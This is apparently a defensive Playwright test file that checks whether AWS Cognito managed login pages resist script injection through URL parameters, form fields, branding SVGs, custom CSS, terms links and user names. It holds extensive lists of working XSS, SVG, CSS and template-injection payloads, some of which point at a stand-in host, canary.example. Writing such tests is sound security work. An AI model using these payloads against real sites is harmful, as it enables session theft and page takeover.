/**
 * Nothing that a link, a form, a user, an app or an administrator gives to the pages of managed login runs as a script, loads
 * something or breaks the policy of the page (CWE-79, CWE-1021). The account page and the console have tests of their own
 * (test/account/safety.test.ts, test/console/safety.test.ts), which the promise counts.
 */
import {
  CreateManagedLoginBrandingCommand,
  CreateTermsCommand,
  SetUICustomizationCommand,
} from '@aws-sdk/client-cognito-identity-provider';
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { offerAbsentProvider } from '../harness/absent-provider.ts';
import { openTab, skipped, titled } from '../harness/chromium.ts';
import { newPerson } from '../harness/people.ts';
import { isWholeRun, showPromise } from '../harness/promise.ts';
import { secondClient } from '../harness/sign-in.ts';
import { setChromium, setStage } from '../login/stage.ts';
import { addressOf, typePassword, type WebApp } from '../login/web-app.ts';

/** A server that nothing may be asked of. It does not exist: requests are recorded, and not sent. */
const canary = 'https://canary.example';
const call = 'ran(1)';

/** Texts that run a script, load something or lead away where a page takes them for markup. */
const payloads = [
  `<script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><script src=${canary}/s.js></script>`,
  `</title></style></textarea></noscript><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `"><img src=${canary}/i onerror=${call}>`,
  `<svg/onload=${call}>`,
  `"><svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${call}</script></svg>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `" autofocus onfocus="${call}" x="`,
  `' autofocus onfocus='${call}' x='`,
  `javascript:${call}`,
  `java\tscript:${call}//`,
  `data:text/html,<script>${call}</script>`,
  `<a href="javascript:${call}" id=x autofocus onfocus=${call}>x</a>`,
  `<base href="${canary}/">`,
  `"><base href=${canary}/>`,
  `<meta http-equiv=refresh content="0;url=${canary}/m">`,
  `"><link rel=stylesheet href=${canary}/c.css>`,
  `<style>@import url(${canary}/c.css)</style>`,
  `;}body{background:url(${canary}/b)}`,
  `"><img src='${canary}/dangling?`,
  `"><form action=${canary}/f><button autofocus>x</button>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `';${call};//`,
  `\u2028${call}\u2029//`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `＜script＞${call}＜/script＞`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
];

/** In the short form, one of so many at each place, beginning with another one. */
const some = <T>(all: readonly T[], place: number, step: number) =>
  all.filter((_, index) => isWholeRun || index % step === place % step);

const paths = [
  'login',
  'signup',
  'confirm',
  'resendcode',
  'forgotPassword',
  'confirmforgotPassword',
  'changePassword',
  'mfa',
  'mfa/select',
  'mfa/register',
  'passkeys/add',
  'error',
  'signedOut',
  'logout',
  'oauth2/authorize',
  'confirmUser',
  'verifyEmail',
  'signInFeedback',
  'account',
];
const parameters = [
  'state',
  'nonce',
  'login_hint',
  'ui_locales',
  'lang',
  'scope',
  'error',
  'error_description',
  'message',
  'acr_values',
  'username',
  'user_name',
  'user_pool_id',
  'event_id',
  'feedback_value',
  'token',
  'email',
  'confirmation_code',
  'return_to',
];
const wrong = [
  'client_id',
  'redirect_uri',
  'response_type',
  'response_mode',
  'logout_uri',
  'identity_provider',
  'prompt',
];

const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${attributes}>${content}</svg>`;
const drawings = [
  svg(`<script>${call}</script>`),
  svg('<rect width="9" height="9"/>', ` onload="${call}"`),
  svg(`<a xlink:href="javascript:${call}"><rect width="9" height="9"/></a>`),
  svg(`<image href="${canary}/i"/>`),
  svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${call}"/></foreignObject>`),
  svg(`<style>@import url(${canary}/c.css);</style><rect width="9" height="9"/>`),
  svg(`<use href="${canary}/u.svg#x"/>`),
  svg(`<animate attributeName="x" onbegin="${call}"/>`),
  `<?xml-stylesheet href="${canary}/x.xsl" type="text/xsl"?>${svg('<rect/>')}`,
  `<!DOCTYPE svg [<!ENTITY x "<script>${call}</script>">]>${svg('&x;')}`,
];
const styles = [
  `.banner-customizable { background: url(${canary}/b); }`,
  `@import url(${canary}/c.css);`,
  `.label-customizable { width: expression(${call}); }`,
  `.label-customizable { color: red; } </style><script>${call}</script>`,
  `.label-customizable { background-image: image-set("${canary}/b" 1x); }`,
  `.label-customizable { -moz-binding: url(${canary}/x.xml#x); behavior: url(${canary}/x.htc); }`,
  '.label-customizable { color: red; } \\3c/style\\3e <svg onload=ran(1)>',
];
const links = [
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `https://x/"onclick="${call}`,
  `https://x/'><svg/onload=${call}>`,
];
const names = [
  `<svg/onload=${call}>`,
  `"><script>${call}</script>`,
  `'onfocus=${call}'x='`,
  `javascript:${call}`,
  `{{${call}}}`,
  `<base/href=//canary.example>`,
];

interface Watched {
  readonly page: Page;
  /** What ran, was asked for, or was refused by the policy of a page. */
  readonly seen: () => readonly string[];
}

/** A tab whose calls, dialogs, problems, and requests to the canary's server are recorded. */
async function watchedTab(context: BrowserContext): Promise<Watched> {
  const seen: string[] = [];
  await context.exposeBinding('ran', ({ page }) => seen.push(`a script ran at ${page.url()}`));
  await context.route(
    ({ host }) => host === 'canary.example',
    (route) => {
      seen.push(`a request to ${route.request().url()}`);
      return route.abort();
    },
  );
  const { page, problems } = await openTab(context);
  page.on('dialog', (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return { page, seen: () => [...seen, ...problems] };
}

function show(what: string, attempts: number, promised: number, seen: readonly string[]): void {
  showPromise(42, [
    { what, reached: attempts, promised, bound: 'at least' },
    { what: 'of them with an effect', reached: seen.length, promised: 0, bound: 'at most' },
  ]);
  expect(seen).toEqual([]);
}

describe.skipIf(skipped)(titled('Script injection into pages of managed login'), () => {
  const stage = setStage();
  const browser = setChromium();

  it('the canary sees a script, a request and a broken policy', async () => {
    const { page, seen } = await watchedTab(await browser.chromium.newContext());
    await page.setContent(`<img src=x onerror="${call}"><img src="${canary}/i">`);
    await expect.poll(() => seen().filter((line) => /a script ran|a request to/.test(line)).length).toBe(2);
  });

  it('by parameters of the address', async () => {
    const app = await stage.newApp();
    const { page, seen } = await watchedTab(await browser.chromium.newContext());
    let attempts = 0;
    const visit = async (address: string) => {
      // Answers without a page, such as redirects of the logout to an app, end a navigation.
      await page.goto(address).catch(() => undefined);
      attempts += 1;
    };
    for (const [place, path] of paths.entries()) {
      for (const text of some(payloads, place, 8)) {
        await visit(addressOf(app, path, Object.fromEntries(parameters.map((name) => [name, text]))));
      }
      for (const [index, name] of some(wrong, place, 4).entries()) {
        for (const text of some(payloads, place + index, payloads.length)) {
          await visit(addressOf(app, path, { [name]: text }));
        }
      }
    }
    show('addresses with a text', attempts, 60, seen());
  });

  it('by fields of forms', async () => {
    const app = await stage.newApp();
    const { page, seen } = await watchedTab(await browser.chromium.newContext());
    let attempts = 0;
    for (const [place, path] of ['login', 'signup', 'forgotPassword', 'confirm', 'confirmforgotPassword'].entries()) {
      for (const text of some(payloads, place, 4)) {
        await page.goto(addressOf(app, path));
        await page.evaluate(`(() => {
          const form = document.querySelector('form[method=post]');
          for (const field of form.querySelectorAll('input:not([type=hidden], [type=checkbox])')) field.value = ${JSON.stringify(text)};
          form.noValidate = true;
          window.isOld = true;
          form.requestSubmit();
        })()`);
        const isNew = () => page.evaluate('!window.isOld && document.readyState === "complete"').catch(() => false);
        await expect.poll(isNew, { timeout: 20_000 }).toBe(true);
        attempts += 1;
      }
    }
    show('forms with a text in each field', attempts, 35, seen());
  });

  it('by names of users and providers, drawings, styles and links', async () => {
    const { page, seen } = await watchedTab(await browser.chromium.newContext());
    const pool = await stage.newApp();
    let attempts = 0;
    const look = async (app: WebApp, path = 'login') => {
      await page.goto(addressOf(app, path, { prompt: 'login' }));
      // A drawing that is opened by itself is a document.
      for (const at of await page.evaluate<string[]>('[...document.images].map(({ src }) => src)')) await page.goto(at);
      attempts += 1;
    };
    for (const drawing of drawings) {
      const app = await newClient(pool);
      const Assets = ['FORM_LOGO', 'PAGE_BACKGROUND', 'FAVICON_SVG'].map((Category) => ({
        Category: Category as 'FORM_LOGO',
        ColorMode: 'LIGHT' as const,
        Extension: 'SVG' as const,
        Bytes: Buffer.from(drawing),
      }));
      const key = { UserPoolId: app.userPoolId, ClientId: app.clientId };
      for (const Asset of Assets) {
        await refusedOrDone(
          app.sdk.send(new CreateManagedLoginBrandingCommand({ ...key, Settings: {}, Assets: [Asset] })),
        );
      }
      await look(app);
    }
    for (const CSS of styles) {
      const app = await newClient(pool);
      await refusedOrDone(
        app.sdk.send(new SetUICustomizationCommand({ UserPoolId: app.userPoolId, ClientId: app.clientId, CSS })),
      );
      await look(app);
    }
    for (const link of links) {
      const app = await newClient(pool);
      const key = {
        UserPoolId: app.userPoolId,
        ClientId: app.clientId,
        TermsSource: 'LINK',
        Enforcement: 'NONE',
      } as const;
      const Links = { 'cognito:default': link };
      await refusedOrDone(app.sdk.send(new CreateTermsCommand({ ...key, TermsName: 'terms-of-use', Links })));
      await look(app, 'signup');
    }
    for (const name of names) {
      const app = await newClient(pool);
      await refusedOrDone(offerAbsentProvider(app, name, ['COGNITO']));
      await look(app);
      const { username, password } = await newPerson(app, name);
      await page.goto(addressOf(app, 'login', { prompt: 'login' }));
      await typePassword(page, username, password);
      await page.waitForURL((url) => url.href.startsWith(app.callback));
      // The page offers to go on as this user.
      await page.goto(addressOf(app, 'login'));
      expect(await page.locator('body').innerText()).toContain(name);
      attempts += 1;
    }
    show('names, drawings, styles and links', attempts, 30, seen());
  });
});

/** Another app client of the pool: each has its own look. */
async function newClient(app: WebApp): Promise<WebApp> {
  const client = await secondClient(app, {
    CallbackURLs: [app.callback],
    AllowedOAuthFlows: ['code'],
    AllowedOAuthScopes: ['openid', 'email'],
    AllowedOAuthFlowsUserPoolClient: true,
    SupportedIdentityProviders: ['COGNITO'],
  });
  return { ...app, clientId: client.clientId };
}

/** The service may refuse what is not safe. */
async function refusedOrDone(request: Promise<unknown>): Promise<void> {
  await request.catch((error: unknown) => {
    if (!/InvalidParameter|Exists/.test((error as Error).name)) throw error;
  });
}
